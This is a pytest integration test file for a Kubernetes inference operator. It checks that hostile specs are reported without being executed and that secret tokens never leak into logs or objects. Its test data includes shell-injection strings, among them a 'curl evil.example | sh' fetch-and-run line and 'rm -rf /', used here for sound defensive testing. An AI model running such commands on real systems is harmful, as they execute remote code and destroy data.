"""Hostile input the schema admits (shell metacharacters, unknown accelerators, a cron only Python
can refuse, odd unicode) is reported, never executed, never half-built, and never crashes the
operator; and secret values never appear in anything the operator writes or logs."""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest

from kubeharness import Cluster, eventually, infd, start_operator

pytestmark = pytest.mark.integration
SHELLISH = ["--chat-template=$(curl evil.example | sh)", "--x; rm -rf /", "`id`", "&& reboot"]


def conditions(cluster: Cluster, namespace: str, name: str) -> dict[str, dict[str, Any]]:
    obj = cluster.get("infd", name, namespace) or {}
    return {c["type"]: c for c in (obj.get("status") or {}).get("conditions") or []}


def test_admitted_hostile_specs_are_reported_not_executed(
    cluster: Cluster, namespace: str, operator_running: Any
) -> None:
    env = [{"name": "GREETING", "value": "héllo\nwörld 🦙 $(id)"}]
    cluster.apply(infd(namespace, "shellish", engine={"args": SHELLISH, "env": env}))
    cluster.apply(
        infd(namespace, "quantum", accelerator={"kind": "nvidia", "types": ["quantum9000"]})
    )
    bad_cron = [{"cron": "61 25 * * *", "minReplicas": 1, "duration": "1h"}]
    cluster.apply(infd(namespace, "badcron", autoscaling={"schedules": bad_cron}))

    def shellish_built() -> dict[str, Any]:
        dep = cluster.get("deployment", "shellish", namespace)
        assert dep is not None
        return dep

    container = eventually(shellish_built, timeout=60)["spec"]["template"]["spec"]["containers"][0]
    # Each hostile string is one argv element of `vllm serve`, never a shell's input.
    assert container["command"] == ["vllm", "serve"]
    assert container["args"][-len(SHELLISH) :] == SHELLISH
    assert {"name": "GREETING", "value": env[0]["value"]} in container["env"]

    def quantum_reported() -> bool:
        planned = conditions(cluster, namespace, "quantum").get("CapacityPlanned", {})
        assert planned.get("status") in ("False", "Unknown"), planned
        assert "quantum9000" in planned.get("message", ""), planned
        return True

    eventually(quantum_reported, timeout=60)

    def cron_reported() -> bool:
        ready = conditions(cluster, namespace, "badcron").get("Ready", {})
        assert ready.get("reason") == "InvalidSpec", ready
        assert "schedules[0].cron" in ready["message"] and "61 25 * * *" in ready["message"]
        return True

    eventually(cron_reported, timeout=60)
    # Reported, and nothing half-built for it.
    for kind in ("deployment", "service", "pdb", "scaledobject"):
        assert cluster.get(kind, "badcron", namespace) is None, kind
    # The operator is alive and still serves a good one.
    cluster.apply(infd(namespace, "fine"))
    eventually(lambda: cluster.get("deployment", "fine", namespace), timeout=60)


def test_secret_values_never_leave_the_secret(cluster: Cluster, solo: str, tmp_path: Path) -> None:
    assert cluster.process is not None, "needs the local cluster's audit log"
    value = f"hf_{uuid.uuid4().hex}SECRET"
    cluster.kubectl(
        "create", "secret", "generic", "hf-token", "-n", solo, f"--from-literal=token={value}"
    )
    cluster.kubectl(
        "create", "secret", "generic", "prom", "-n", solo, f"--from-literal=token={value}"
    )
    log = tmp_path / "operator.log"
    proc = start_operator(cluster, solo, log, INFOP_LOG_LEVEL="DEBUG")
    try:
        spec = {
            "model": {
                "uri": "hf://meta-llama/Llama-3.1-8B-Instruct",
                "tokenSecretRef": {"name": "hf-token", "key": "token"},
            },
            "autoscaling": {
                "prometheusTriggers": True,
                "prometheus": {"authSecretRef": {"name": "prom", "key": "token"}},
            },
        }
        cluster.apply(infd(solo, "llama", **spec))

        def settled() -> bool:
            conds = conditions(cluster, solo, "llama")
            assert conds.get("Ready", {}).get("status") == "True", conds
            assert "ScalingActive" in conds, conds
            assert cluster.get("triggerauthentication", "llama-prometheus", solo) is not None
            return True

        eventually(settled, timeout=90)
        dep = cluster.get("deployment", "llama", solo) or {}
        env_vars = dep["spec"]["template"]["spec"]["containers"][0]["env"]
        token = next(e for e in env_vars if e["name"] == "HF_TOKEN")
        assert token == {
            "name": "HF_TOKEN",
            "valueFrom": {"secretKeyRef": {"name": "hf-token", "key": "token"}},
        }
        auth = cluster.get("triggerauthentication", "llama-prometheus", solo) or {}
        assert auth["spec"] == {
            "secretTargetRef": [{"parameter": "bearerToken", "name": "prom", "key": "token"}]
        }
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    # Everything the operator wrote (request bodies in the audit log), logged, or caused.
    written = [
        line
        for line in (cluster.process.state / "audit.log").read_text().splitlines()
        if solo in line
    ]
    assert any('"verb":"patch"' in line or '"verb":"create"' in line for line in written)
    places = {
        "operator log": log.read_text(),
        "audit log (operator's requests)": "\n".join(written),
        "events": cluster.kubectl("get", "events", "-n", solo, "-o", "json").stdout,
        "objects": json.dumps(
            [
                cluster.list(kind, solo)
                for kind in (
                    "infd",
                    "deployment",
                    "service",
                    "pdb",
                    "scaledobject",
                    "triggerauthentication",
                )
            ]
        ),
    }
    for where, text in places.items():
        assert value not in text, where
